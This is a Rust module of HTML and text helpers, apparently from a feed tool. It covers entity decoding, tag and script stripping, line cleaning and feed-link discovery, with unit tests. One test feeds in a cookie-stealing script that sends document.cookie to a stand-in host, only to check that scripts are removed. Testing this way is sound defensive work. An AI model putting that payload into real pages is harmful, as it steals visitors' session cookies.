//! Small text helpers shared by the stages: entities, tags, white space.

use std::borrow::Cow;

use markup5ever::data::{C1_REPLACEMENTS, NAMED_ENTITIES};
use quick_xml::escape::resolve_xml_entity;

/// Resolve the body of an entity reference (`amp`, `#21490`, `#x4E2D`,
/// `alpha`): XML's five, then the whole HTML5 table (html5ever's; the one
/// in quick-xml has wrong code points, `&alpha;` as `;`).
pub fn resolve_entity(name: &str) -> Option<Cow<'static, str>> {
    if let Some(num) = name.strip_prefix('#') {
        let code = match num.strip_prefix(['x', 'X']) {
            Some(hex) => u32::from_str_radix(hex, 16).ok()?,
            None => num.parse().ok()?,
        };
        // `&#146;` means windows-1252's `’` to every browser (HTML's rule
        // for 128-159, which are control characters in Unicode).
        let c1 = code.checked_sub(0x80).and_then(|i| C1_REPLACEMENTS.get(i as usize).copied().flatten());
        // NUL and surrogates are not characters; keep the reference visible.
        let c = c1.or_else(|| char::from_u32(code)).filter(|c| *c != '\0')?;
        return Some(Cow::Owned(c.to_string()));
    }
    if let Some(xml) = resolve_xml_entity(name) {
        return Some(Cow::Borrowed(xml));
    }
    if name.is_empty() || name.len() > 40 {
        return None;
    }
    let &(first, second) = NAMED_ENTITIES.get(format!("{name};").as_str())?;
    let mut out = String::with_capacity(8);
    out.extend(char::from_u32(first));
    if second != 0 {
        out.extend(char::from_u32(second));
    }
    Some(Cow::Owned(out))
}

/// Decode HTML character references once; unknown ones stay as written.
pub fn decode_entities(s: &str) -> Cow<'_, str> {
    if !s.contains('&') {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        let after = &rest[amp + 1..];
        let end = after
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '#'))
            .filter(|&e| after[e..].starts_with(';') && e > 0);
        match end.and_then(|e| resolve_entity(&after[..e]).map(|v| (e, v))) {
            Some((e, value)) => {
                out.push_str(&value);
                rest = &after[e + 1..];
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// Text of an HTML fragment: tags dropped, entities decoded once.
pub fn html_to_text(html: &str) -> String {
    if !html.contains(['<', '&']) {
        return html.to_string();
    }
    let mut stripped = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(lt) = rest.find('<') {
        stripped.push_str(&rest[..lt]);
        let after = &rest[lt + 1..];
        // A comment ends at `-->`, not at the first `>` inside it.
        if let Some(comment) = after.strip_prefix("!--") {
            rest = comment.find("-->").map_or("", |end| &comment[end + 3..]);
            continue;
        }
        // Scripts and style sheets are no part of the text a reader sees.
        if let Some(end) = raw_text_end(after) {
            rest = end;
            continue;
        }
        // `<` not followed by a tag name or `/`, `!`, `?` is text (e.g. "a < b").
        if after.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) {
            match after.find('>') {
                Some(gt) => rest = &after[gt + 1..],
                None => rest = "",
            }
        } else {
            stripped.push('<');
            rest = after;
        }
    }
    stripped.push_str(rest);
    decode_entities(&stripped).into_owned()
}

/// For `after` just past a `<script` or `<style` start tag's `<`, what
/// follows its end tag (or nothing, when it is never closed).
fn raw_text_end(after: &str) -> Option<&str> {
    let name = ["script", "style"].into_iter().find(|n| {
        after.get(..n.len()).is_some_and(|h| h.eq_ignore_ascii_case(n))
            && !after[n.len()..].starts_with(|c: char| c.is_ascii_alphanumeric())
    })?;
    let lower = after.to_ascii_lowercase();
    let close = format!("</{name}");
    Some(match lower.find(&close) {
        Some(at) => after[at..].find('>').map_or("", |gt| &after[at + gt + 1..]),
        None => "",
    })
}

/// One-line text for YAML and file names: runs of ASCII white space become
/// one space; other control characters and Unicode noncharacters go;
/// surrounding white space is trimmed. Non-ASCII spaces (U+3000) inside stay.
pub fn clean_line(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut pending_space = false;
    for c in s.chars() {
        if matches!(c, ' ' | '\t' | '\n' | '\r' | '\x0c') {
            pending_space = true;
            continue;
        }
        if c.is_control() || is_noncharacter(c) {
            continue;
        }
        if pending_space && !out.is_empty() {
            out.push(' ');
        }
        pending_space = false;
        out.push(c);
    }
    // Inner non-ASCII spaces stay; at the ends, any white space goes.
    let trimmed = out.trim();
    if trimmed.len() == out.len() { out } else { trimmed.to_string() }
}

fn is_noncharacter(c: char) -> bool {
    let u = c as u32;
    (0xFDD0..=0xFDEF).contains(&u) || (u & 0xFFFE) == 0xFFFE
}

pub fn is_http_url(s: &str) -> bool {
    let lower = s.trim_start().get(..8).unwrap_or("").to_ascii_lowercase();
    lower.starts_with("http://") || lower.starts_with("https://")
}

/// HTML-escape plain text and turn its line breaks into `<br>`.
pub fn text_to_html(s: &str) -> String {
    let escaped = quick_xml::escape::escape(s);
    escaped.replace("\r\n", "\n").replace('\n', "<br>")
}

/// Feed URLs an HTML page advertises with `<link rel="alternate" type="…rss|atom|json…">`.
pub fn feed_links_in_html(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let lower = html.to_ascii_lowercase();
    let mut from = 0;
    while let Some(pos) = lower[from..].find("<link") {
        let start = from + pos;
        let end = lower[start..].find('>').map_or(lower.len(), |e| start + e);
        let tag = &lower[start..end];
        let is_feed = tag.contains("alternate")
            && (tag.contains("rss+xml") || tag.contains("atom+xml") || tag.contains("feed+json"));
        if is_feed && let Some(href) = attr_in_tag(&html[start..end], "href") {
            found.push(decode_entities(href).into_owned());
        }
        from = end;
    }
    found
}

fn attr_in_tag<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let lower = tag.to_ascii_lowercase();
    let mut from = 0;
    while let Some(pos) = lower[from..].find(name) {
        let at = from + pos;
        let before_ok = lower[..at].ends_with(|c: char| c.is_ascii_whitespace());
        let rest = lower[at + name.len()..].trim_start();
        if before_ok && let Some(rest) = rest.strip_prefix('=') {
            let value_start = tag.len() - rest.trim_start().len();
            let value = &tag[value_start..];
            return match value.chars().next() {
                Some(q @ ('"' | '\'')) => value[1..].split(q).next(),
                _ => value.split(|c: char| c.is_ascii_whitespace() || c == '>').next(),
            };
        }
        from = at + name.len();
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entities_decode_once() {
        assert_eq!(
            decode_entities("AT&amp;amp;T &#21490; &#x4E2D; &nbsp;x &bogus; & ;"),
            "AT&amp;T 史 中 \u{a0}x &bogus; & ;"
        );
    }

    #[test]
    fn html_text() {
        assert_eq!(html_to_text("<p>a &lt; b</p> <br/>c < d"), "a < b c < d");
        assert_eq!(html_to_text("a<!-- x > y -->b<!-- open"), "ab");
        assert_eq!(
            html_to_text(
                "safe<script>location.href='//e.example/?'+document.cookie</script> description<STYLE>p{}</STYLE>"
            ),
            "safe description"
        );
        assert_eq!(html_to_text("<scripts>x</scripts>"), "x", "only the raw-text elements themselves");
    }

    #[test]
    fn the_whole_html5_entity_table_and_browser_c1_references() {
        assert_eq!(
            decode_entities(
                "&alpha; &Omega; &oelig; &scaron; &tilde; &fnof; &NotNestedGreaterGreater; don&#146;t &#x80;"
            ),
            "α Ω œ š ˜ ƒ \u{2AA2}\u{338} don’t €"
        );
    }

    #[test]
    fn clean_line_rules() {
        assert_eq!(clean_line("  a\t\r\n b\u{3000}c\u{7}\u{FFFE}d  "), "a b\u{3000}cd");
    }

    #[test]
    fn finds_feed_links() {
        let html = r#"<html><head><link rel="stylesheet" href="/a.css"><LINK REL="alternate" type="application/rss+xml" href="/feed?a=1&amp;b=2"></head></html>"#;
        assert_eq!(feed_links_in_html(html), vec!["/feed?a=1&b=2".to_string()]);
    }
}
